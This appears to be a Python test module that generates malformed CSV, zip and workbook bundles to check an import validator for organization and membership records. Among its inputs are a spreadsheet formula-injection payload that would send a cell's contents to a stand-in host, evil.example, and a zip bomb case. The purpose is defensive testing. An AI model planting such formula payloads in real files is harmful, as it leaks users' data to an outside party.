"""The mutations of the malformed-bundle corpus, generated from ``corpus.BASE``.

Kinds: missing and swapped columns, emptied cells, bad and out-of-range dates, dates in the
future, unknown codes and values, duplicated rows, references to rows further down, texts that
are too long, hold a NUL or look like formulas, numbers out of range, other encodings, damaged,
encrypted, doubled and bomb archives, missing and empty files. Some mutations leave a valid
bundle (an optional cell emptied, a child listed before its parent): the corpus test accepts
those only when the result is consistent.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import pairwise

from dangvien.interchange.tests import corpus as c

DATE_COLUMNS = {
    "organizations.csv": ["established_on", "dissolved_on"],
    "org_changes.csv": ["effective_on"],
    "members.csv": ["birth_date", "decision_on", "admitted_on", "official_on"],
    "member_events.csv": ["effective_on"],
    "committee_members.csv": ["from", "to"],
    "targets.csv": ["period_from", "period_to"],
}
CODE_COLUMNS = {
    "organizations.csv": ["parent_code"],
    "org_changes.csv": ["code"],
    "members.csv": ["organization_code"],
    "member_events.csv": ["member_id", "organization_code"],
    "committee_members.csv": ["organization_code"],
    "populations.csv": ["organization_code"],
    "targets.csv": ["organization_code"],
}
ENUM_COLUMNS = {
    "organizations.csv": ["kind", "sector"],
    "org_changes.csv": ["change"],
    "members.csv": ["sex", "political_theory"],
    "member_events.csv": ["event"],
    "committee_members.csv": ["post"],
}
TEXT_COLUMNS = {
    "organizations.csv": ["name"],
    "org_changes.csv": ["new_name"],
    "members.csv": ["full_name", "ethnicity", "religion", "education"],
    "member_events.csv": ["note"],
    "committee_members.csv": ["full_name"],
}
NUMBER_COLUMNS = {
    "populations.csv": ["year", "population"],
    "targets.csv": ["admissions", "members_per_population_percent"],
}
BAD_DATES = ["2020-13-45", "31/12/2020", "hôm qua", "0001-01-01", "1899-12-31", "9999-12-31"]
BAD_NUMBERS = ["-5", "1.5e3", "abc", "10000000000000000000", "NaN", "1e308", "１２"]


def cases() -> Iterator[tuple[str, c.Mutation]]:
    for name, rows in c.BASE.items():
        header = rows[0]
        for column in header:
            yield f"{name}: without column {column}", c.drop_column(name, column)
            yield f"{name}: row 2 {column} emptied", c.set_cell(name, 2, column, "")
            yield f"{name}: row 2 {column} blank", c.set_cell(name, 2, column, "   ")
        for first, second in pairwise(header):
            yield (
                f"{name}: columns {first} and {second} swapped",
                c.swap_columns(name, first, second),
            )
        yield f"{name}: row 2 twice", c.duplicate_row(name, 2)
        yield f"{name}: last row first", c.move_row_first(name, len(rows))
        yield f"{name}: header {header[0]} twice", c.duplicate_header(name, header[0])
        yield f"{name}: a row with an extra cell", c.add_row(name, [*rows[1], "thừa"])
        yield f"{name}: a short row", c.add_row(name, rows[1][:2])
        if name in {"organizations.csv", "members.csv"}:
            yield f"{name}: missing", c.drop_file(name)
        yield f"{name}: empty", c.empty_file(name)
        yield f"{name}: Windows-1258", c.encoded(name, "cp1258")
        yield f"{name}: NUL byte", c.raw_file(name, c.csv_bytes(rows)[:-2] + b"\0\n")
        for column in DATE_COLUMNS.get(name, []):
            for bad in BAD_DATES:
                yield f"{name}: {column} = {bad}", c.set_cell(name, 2, column, bad)
            if name != "targets.csv":
                yield f"{name}: {column} tomorrow", c.set_cell(name, 2, column, c.TOMORROW)
        for column in CODE_COLUMNS.get(name, []):
            yield f"{name}: {column} unknown", c.set_cell(name, 2, column, "KHONG-CO")
            yield (
                f"{name}: {column} in lower case",
                c.set_cell(name, 2, column, rows[1][header.index(column)].lower() or "p"),
            )
        for column in ENUM_COLUMNS.get(name, []):
            yield f"{name}: {column} unknown", c.set_cell(name, 2, column, "khác")
        for column in TEXT_COLUMNS.get(name, []):
            yield f"{name}: {column} 300 characters", c.set_cell(name, 2, column, "Ă" * 300)
            yield f"{name}: {column} NUL", c.set_cell(name, 2, column, "A\x00B")
            yield (
                f"{name}: {column} a formula",
                c.set_cell(
                    name, 2, column, '=HYPERLINK("http://evil.example/?d="&B2,"Nguyễn Văn A")'
                ),
            )
            yield f"{name}: {column} over 128 KB", c.set_cell(name, 2, column, "x" * 140_000)
        for column in NUMBER_COLUMNS.get(name, []):
            for bad in BAD_NUMBERS:
                yield f"{name}: {column} = {bad}", c.set_cell(name, 2, column, bad)
    yield from _references()
    yield from _archives()


def _references() -> Iterator[tuple[str, c.Mutation]]:
    """Rows that name others: further down, missing, themselves."""
    yield "a child before its parent", c.move_row_first("organizations.csv", 4)
    yield "an organization under itself", c.set_cell("organizations.csv", 3, "parent_code", "X")
    yield (
        "two organizations under each other",
        c.set_cell("organizations.csv", 2, "parent_code", "X"),
    )
    yield (
        "a member in an organization not founded yet",
        c.set_cell("members.csv", 2, "admitted_on", "1999-02-01"),
    )
    yield "a member in a dissolved cell", c.set_cell("members.csv", 7, "organization_code", "X-C3")
    yield (
        "an event before the admission",
        c.set_cell("member_events.csv", 2, "effective_on", "2004-01-01"),
    )
    yield (
        "an event of a member further down",
        c.add_row("member_events.csv", ["M6", "exempt", "2025-01-01", "", ""]),
    )
    yield (
        "an event of an unknown member",
        c.add_row("member_events.csv", ["M99", "exempt", "2020-01-01", "", ""]),
    )
    yield (
        "a transfer into a dissolved cell",
        c.add_row("member_events.csv", ["M1", "transfer", "2016-01-01", "X-C3", ""]),
    )
    yield (
        "an event after death",
        c.add_row("member_events.csv", ["M4", "exempt", "2023-01-01", "", ""]),
    )
    yield (
        "a merge into itself",
        c.add_row("org_changes.csv", ["X-C1", "merge", "2016-01-01", "", "", "X-C1"]),
    )
    yield (
        "a move under its own child",
        c.add_row("org_changes.csv", ["X", "move", "2016-01-01", "X-C1", "", ""]),
    )
    yield (
        "a rename before the founding",
        c.add_row("org_changes.csv", ["Y", "rename", "1990-01-01", "", "Tên mới", ""]),
    )
    yield (
        "a post that ends before it starts",
        c.set_cell("committee_members.csv", 2, "to", "2010-01-01"),
    )
    yield (
        "a post of an unknown member without a name",
        c.add_row("committee_members.csv", ["X", "NOPE", "member", "2016-01-01", "", ""]),
    )
    yield (
        "a target that ends before it starts",
        c.set_cell("targets.csv", 2, "period_to", "2019-01-01"),
    )
    yield "a second citizen ID holder", c.set_cell("members.csv", 3, "national_id", "012345678901")
    yield "an 11-digit citizen ID", c.set_cell("members.csv", 2, "national_id", "01234567890")


def _archives() -> Iterator[tuple[str, c.Mutation]]:
    yield "a valid zip", c.zipped()
    yield "a corrupt zip", c.corrupt_zip
    yield "a truncated zip", c.truncated_zip
    yield "an encrypted zip", c.encrypted_zip
    yield "a zip holding members.csv twice", c.zip_twice("members.csv", 2, "full_name", "Khác")
    yield "a zip bomb", c.zip_bomb(300)
    yield "a UTF-16 members.csv", c.encoded("members.csv", "utf-16")
    yield "a Latin-1 members.csv", c.encoded("members.csv", "latin-1", "Nguyen Ânh")
    yield "a valid workbook", c.workbook()
    yield (
        "a workbook with a formula as a name",
        lambda files: c.workbook()(
            c.set_cell("members.csv", 2, "full_name", "=1+1")(files)  # type: ignore[arg-type]
        ),
    )
    yield (
        "a workbook with an unknown code",
        lambda files: c.workbook()(
            c.set_cell("members.csv", 2, "organization_code", "KHONG-CO")(files)  # type: ignore[arg-type]
        ),
    )
    yield "a truncated workbook", c.workbook(lambda data: data[: len(data) // 2])
    yield (
        "a workbook with damaged sheets",
        c.workbook(lambda data: data[:200] + b"\xff" * 400 + data[600:]),
    )
